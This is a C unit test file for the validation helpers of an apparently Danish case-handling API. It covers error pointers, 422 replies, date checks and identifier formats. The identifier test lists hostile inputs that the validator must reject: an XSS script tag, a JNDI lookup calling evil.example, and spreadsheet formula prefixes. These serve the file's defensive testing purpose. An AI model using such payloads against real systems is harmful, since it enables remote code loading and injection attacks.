/*
 * Unit tests for the helpers of service/validate.c that the resources share: nested
 * checks and their JSON Pointers, merging, the 422 answer, dates that must have happened,
 * and membership in a list. Expected pointers and messages are written from the API
 * contract (RFC 6901 pointers, the 422 problem's errors[]), not from the code.
 */
#include <criterion/criterion.h>
#include <string.h>

#include "http/reply.h"
#include "law/validate.h"

static struct cal_date day(int y, int m, int d)
{
    struct cal_date out = {y, m, d};
    return out;
}

static const char *pointer_at(const json_t *errors, size_t i)
{
    return json_string_value(json_object_get(json_array_get(errors, i), "pointer"));
}

static const char *message_at(const json_t *errors, size_t i)
{
    return json_string_value(json_object_get(json_array_get(errors, i), "message"));
}

Test(validate, member_check_points_below_its_parent)
{
    json_t *body = json_pack("{s:{s:i}}", "hearing", "status", 1);
    struct check c, hc;
    check_begin(&c, body, "/sections/work_capacity");
    check_begin_member(&hc, &c, json_object_get(body, "hearing"), "hearing");
    const char *status = NULL;
    static const char *const statuses[] = {"none", NULL};
    check_choice(&hc, "status", 1, statuses, &status);
    check_merge(&c, &hc);
    cr_assert_eq(json_array_size(c.errors), 1);
    cr_assert_str_eq(pointer_at(c.errors, 0), "/sections/work_capacity/hearing/status");
    check_end(&c);
    json_decref(body);
}

Test(validate, member_key_is_escaped_as_a_pointer_token)
{
    struct check c, nested;
    check_begin(&c, NULL, "");
    check_begin_member(&nested, &c, NULL, "a/b~c");
    cr_assert_str_eq(nested.prefix, "/a~1b~0c");
    check_end(&nested);
    check_end(&c);
}

Test(validate, merge_moves_every_nested_error_in_order_and_ends_the_nested_check)
{
    struct check c, nested;
    check_begin(&c, NULL, "");
    check_fail(&c, "first", "one");
    check_begin_member(&nested, &c, NULL, "legal_basis");
    check_fail(&nested, "0", "two");
    check_fail(&nested, "1", "three");
    check_merge(&c, &nested);
    cr_assert_eq(json_array_size(c.errors), 3);
    cr_assert_str_eq(pointer_at(c.errors, 0), "/first");
    cr_assert_str_eq(pointer_at(c.errors, 1), "/legal_basis/0");
    cr_assert_str_eq(pointer_at(c.errors, 2), "/legal_basis/1");
    cr_assert_str_eq(message_at(c.errors, 2), "three");
    cr_assert_null(nested.errors);
    check_end(&c);
}

Test(validate, a_pointer_the_database_names_goes_below_the_prefix_unchanged)
{
    struct check c;
    check_begin(&c, NULL, "/sections/overall_decision");
    check_fail_pointer(&c, "/legal_basis/2", "not in force");
    cr_assert_str_eq(pointer_at(c.errors, 0), "/sections/overall_decision/legal_basis/2");
    check_end(&c);
    check_begin(&c, NULL, "");
    check_fail_pointer(&c, "/kind", "not in force");
    cr_assert_str_eq(pointer_at(c.errors, 0), "/kind");
    check_end(&c);
}

Test(validate, a_clean_check_leaves_the_reply_alone)
{
    struct reply r;
    struct check c;
    memset(&r, 0, sizeof(r));
    check_begin(&c, NULL, "");
    cr_assert_eq(reply_check_invalid(&r, &c), 0);
    cr_assert_eq(r.status, 0);
    cr_assert_null(r.json);
    check_end(&c);
}

Test(validate, a_failed_check_answers_422_naming_every_field)
{
    struct reply r;
    struct check c;
    memset(&r, 0, sizeof(r));
    check_begin(&c, NULL, "");
    check_fail(&c, "kind", "required");
    check_fail(&c, "case_id", "must be a UUID");
    cr_assert_eq(reply_check_invalid(&r, &c), 1);
    cr_assert_eq(r.status, 422);
    cr_assert_str_eq(r.content_type, "application/problem+json");
    cr_assert_str_eq(json_string_value(json_object_get(r.json, "type")), "https://fremdrift.dk/problems/validation");
    json_t *errors = json_object_get(r.json, "errors");
    cr_assert_eq(json_array_size(errors), 2);
    cr_assert_str_eq(pointer_at(errors, 0), "/kind");
    cr_assert_str_eq(pointer_at(errors, 1), "/case_id");
    /* The errors were taken: the check has none left. */
    cr_assert_eq(check_failed(&c), 0);
    check_end(&c);
    reply_reset(&r);
}

Test(validate, a_past_date_may_be_today_but_not_tomorrow)
{
    json_t *body = json_pack("{s:s, s:s, s:s}", "today", "2026-11-25", "tomorrow", "2026-11-26", "bad", "2026-02-30");
    struct check c;
    struct cal_date out = day(2000, 1, 1);
    check_begin(&c, body, "");
    cr_assert_eq(check_past_date(&c, "today", 1, day(2026, 11, 25), &out), CHECK_OK);
    cr_assert_eq(out.year, 2026);
    cr_assert_eq(out.month, 11);
    cr_assert_eq(out.day, 25);
    out = day(2000, 1, 1);
    cr_assert_eq(check_past_date(&c, "tomorrow", 1, day(2026, 11, 25), &out), CHECK_INVALID);
    cr_assert_eq(out.year, 2000, "a refused date must not be written out");
    cr_assert_eq(check_past_date(&c, "bad", 1, day(2026, 11, 25), &out), CHECK_INVALID);
    cr_assert_eq(check_past_date(&c, "absent", 0, day(2026, 11, 25), &out), CHECK_ABSENT);
    cr_assert_eq(json_array_size(c.errors), 2);
    cr_assert_str_eq(pointer_at(c.errors, 0), "/tomorrow");
    cr_assert_str_eq(message_at(c.errors, 0), "must not be in the future");
    cr_assert_str_eq(pointer_at(c.errors, 1), "/bad");
    cr_assert_str_eq(message_at(c.errors, 1), "must be a date (YYYY-MM-DD)");
    check_end(&c);
    json_decref(body);
}

Test(validate, one_of_matches_exact_members_only)
{
    static const char *const statuses[] = {"draft", "issued", "superseded", NULL};
    cr_assert_eq(text_is_one_of("issued", statuses), 1);
    cr_assert_eq(text_is_one_of("superseded", statuses), 1);
    cr_assert_eq(text_is_one_of("Issued", statuses), 0);
    cr_assert_eq(text_is_one_of("issue", statuses), 0);
    cr_assert_eq(text_is_one_of("", statuses), 0);
    cr_assert_eq(text_is_one_of(NULL, statuses), 0);
}

Test(validate, staff_identifiers_keep_to_the_documented_set)
{
    static const char *const fine[] = {"kk-sb-0421", "anna.hansen@vejle.dk", "S1234_x", "CVR:12345678-RID:99", "7"};
    for (size_t i = 0; i < sizeof(fine) / sizeof(fine[0]); i++)
        cr_assert_eq(text_is_identifier(fine[i]), 1, "%s was refused", fine[i]);
    char longest[130];
    memset(longest, 'a', 129);
    longest[129] = '\0';
    static const char *const bad[] = {"<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "=1+1", "+cw",
                                      "-cw", "@cw", ".cw", "anna hansen", "cw\n", "cw/1", "\xc3\xa6" "ble", ""};
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
        cr_assert_eq(text_is_identifier(bad[i]), 0, "%s was taken", bad[i]);
    cr_assert_eq(text_is_identifier(longest), 0, "129 characters were taken");
    longest[128] = '\0';
    cr_assert_eq(text_is_identifier(longest), 1, "128 characters were refused");
    cr_assert_eq(text_is_identifier(NULL), 0);
}

Test(validate, request_ids_are_8_to_64_safe_characters_with_a_letter)
{
    static const char *const fine[] = {"abcdefgh", "Req_2026.12-06", "3f2b9c1e-7a4d-4e8b-9c0f-5d6a7b8c9d0e",
                                       "1234567a"};
    for (size_t i = 0; i < sizeof(fine) / sizeof(fine[0]); i++)
        cr_assert_eq(text_is_request_id(fine[i]), 1, "%s was refused", fine[i]);
    static const char *const bad[] = {"0101901234", "010190-1234", "010190.1234", "12345678901234567890",
                                      "abcdefg", "abcd:efgh", "abcd efgh", "abcd\"efgh", ""};
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
        cr_assert_eq(text_is_request_id(bad[i]), 0, "%s was taken", bad[i]);
    char id[66];
    memset(id, 'a', 65);
    id[65] = '\0';
    cr_assert_eq(text_is_request_id(id), 0, "65 characters were taken");
    id[64] = '\0';
    cr_assert_eq(text_is_request_id(id), 1, "64 characters were refused");
    cr_assert_eq(text_is_request_id(NULL), 0);
}
